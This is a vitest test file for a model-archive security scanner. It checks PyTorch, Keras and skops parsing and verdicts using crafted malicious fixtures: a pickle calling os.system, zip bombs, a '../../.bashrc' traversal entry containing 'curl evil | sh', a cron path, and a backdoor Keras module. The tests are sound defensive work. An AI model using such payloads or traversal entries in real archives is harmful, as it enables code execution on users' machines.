/**
 * Zip-based formats: PyTorch archives (safe and malicious), skops and Keras configs, and the
 * archive attacks: expansion bombs, 100k entries, nested archives, paths that escape, and
 * entries whose checksum fails.
 */
import { describe, expect, test } from 'vitest';
import type { KerasMetadata, PytorchMetadata, SkopsMetadata } from '$lib/registry/formats/types';
import {
  callingPickle,
  inspectBytes,
  stateDictPickle,
  text,
  zip,
  type ZipSpecEntry,
} from './formats-builders';

function torchArchive(dataPkl: Uint8Array, extra: Partial<ZipSpecEntry> = {}) {
  return zip([
    { name: 'archive/data.pkl', data: dataPkl, deflate: true, ...extra },
    { name: 'archive/byteorder', data: text('little') },
    { name: 'archive/data/0', data: new Uint8Array(48) },
    { name: 'archive/data/1', data: new Uint8Array(12) },
    { name: 'archive/version', data: text('3\n') },
    { name: 'archive/.data/serialization_id', data: text('1234') },
  ]);
}

const kerasConfig = (layers: unknown[]) =>
  text(JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { layers } }));

describe('PyTorch archives', () => {
  test('a state dict lists tensors, markers and a safe verdict', async () => {
    const pkl = stateDictPickle([
      ['fc.weight', [4, 3]],
      ['fc.bias', [3]],
    ]);
    const result = await inspectBytes(torchArchive(pkl), 'model.pt');
    expect(result.error).toBeNull();
    const meta = result.metadata as PytorchMetadata;
    expect(meta).toMatchObject({
      format: 'pytorch-zip',
      archiveName: 'archive',
      markers: { version: '3', byteorder: 'little', serializationId: true },
      isTorchScript: false,
      tensorCount: 2,
      parameterCount: 15,
      paramsByDtype: { float32: 15 },
      storageCount: 2,
    });
    expect(meta.tensors.map((t) => [t.name, t.shape])).toEqual([
      ['fc.weight', [4, 3]],
      ['fc.bias', [3]],
    ]);
    expect(result.safety?.verdict).toBe('safe');
  });

  test('an archive whose data.pkl calls os.system is dangerous, even named .bin', async () => {
    const result = await inspectBytes(torchArchive(callingPickle('os', 'system', 'id')), 'x.bin');
    expect(result.format).toBe('pytorch-zip');
    expect(result.safety?.verdict).toBe('dangerous');
  });

  test('a data.pkl with a bad CRC is refused and its verdict is unknown', async () => {
    const pkl = stateDictPickle([['w', [2]]]);
    const result = await inspectBytes(torchArchive(pkl, { crc: 0xdeadbeef }));
    expect(result.error?.name).toBe('ArchiveIntegrityError');
    expect(result.error?.message).toMatch(/"archive\/data.pkl" fails its checksum/);
    expect(result.safety?.verdict).toBe('unknown');
  });
});

describe('zip attacks', () => {
  test('an entry expanding over 100 times is a zip bomb', async () => {
    const bomb = zip([{ name: 'archive/data.pkl', data: new Uint8Array(4 << 20), deflate: true }]);
    const result = await inspectBytes(bomb, 'model.pt');
    expect(result.error?.name).toBe('ZipBombError');
    expect(result.error?.message).toMatch(
      /expands .* into 4.19 MB, a ratio of \d{3,} \(the limit is 100\)/,
    );
    expect(result.bytesRead).toBeLessThan(100_000);
  });

  test('an entry that inflates past its declared size is stopped', async () => {
    const liar = zip([
      { name: 'archive/data.pkl', data: new Uint8Array(200_000), deflate: true, declaredSize: 100 },
    ]);
    const result = await inspectBytes(liar);
    expect(result.error?.name).toBe('ZipBombError');
    expect(result.error?.message).toMatch(/inflates past the 100 bytes it declares/);
  });

  test('an archive declaring 100,000 entries is refused before reading them', async () => {
    const many = zip([{ name: 'archive/data.pkl', data: text('N.') }], 100_000);
    const result = await inspectBytes(many);
    expect(result.error?.message).toMatch(/it declares 100,000 entries \(the limit is 10000\)/);
  });

  test('a name climbing out with ../ is refused', async () => {
    const evil = zip([
      { name: 'archive/data.pkl', data: text('N.') },
      { name: '../../.bashrc', data: text('curl evil | sh') },
    ]);
    const result = await inspectBytes(evil);
    expect(result.error?.name).toBe('UnsafeArchivePathError');
    expect(result.error?.message).toMatch(/"\.\.\/\.\.\/\.bashrc", which points outside/);
  });

  test('absolute names are refused', async () => {
    const result = await inspectBytes(zip([{ name: '/etc/cron.d/x', data: text('x') }]));
    expect(result.error?.name).toBe('UnsafeArchivePathError');
  });

  test('nested archives are not opened', async () => {
    const inner = zip([{ name: 'archive/data.pkl', data: callingPickle('os', 'system', 'x') }]);
    const result = await inspectBytes(zip([{ name: 'inner.zip', data: inner }]));
    expect(result.error?.name).toBe('UnrecognizedFormatError');
    expect(result.error?.message).toMatch(
      /1 of them archives themselves, which Stemma does not open/,
    );
  });
});

describe('Keras and skops archives', () => {
  test('a Lambda layer makes a Keras model dangerous', async () => {
    const config = kerasConfig([
      { module: 'keras.layers', class_name: 'Lambda', config: { name: 'sneaky', function: {} } },
    ]);
    const result = await inspectBytes(
      zip([
        { name: 'config.json', data: config },
        { name: 'metadata.json', data: text('{}') },
      ]),
    );
    expect(result.safety?.verdict).toBe('dangerous');
    expect((result.metadata as KerasMetadata).lambdaLayers).toEqual(['sneaky']);
    expect(result.warnings.join(' ')).toMatch(/no model.weights.h5/);
  });

  test('a config naming a module outside Keras is suspicious', async () => {
    const config = kerasConfig([
      {
        module: 'evil_pkg.layers',
        class_name: 'Backdoor',
        config: { name: 'b' },
        registered_name: null,
      },
    ]);
    const result = await inspectBytes(
      zip([
        { name: 'config.json', data: config },
        { name: 'metadata.json', data: text('{"keras_version": "3.1.0"}') },
      ]),
    );
    expect(result.safety?.verdict).toBe('suspicious');
    expect((result.metadata as KerasMetadata).customObjects).toEqual(['evil_pkg.layers.Backdoor']);
    expect((result.metadata as KerasMetadata).kerasVersion).toBe('3.1.0');
  });

  test('a skops schema lists its types and flags those outside scikit-learn', async () => {
    const schema = {
      __class__: 'Pipeline',
      __module__: 'sklearn.pipeline',
      protocol: 2,
      _skops_version: '0.10.0',
      content: { steps: { __class__: 'Custom', __module__: 'mylib.steps', content: {} } },
    };
    const result = await inspectBytes(
      zip([{ name: 'schema.json', data: text(JSON.stringify(schema)) }]),
    );
    const meta = result.metadata as SkopsMetadata;
    expect(meta).toMatchObject({
      protocol: 2,
      skopsVersion: '0.10.0',
      rootClass: 'sklearn.pipeline.Pipeline',
    });
    expect(meta.untrustedTypes).toEqual(['mylib.steps.Custom']);
    expect(result.safety?.verdict).toBe('suspicious');
  });
});
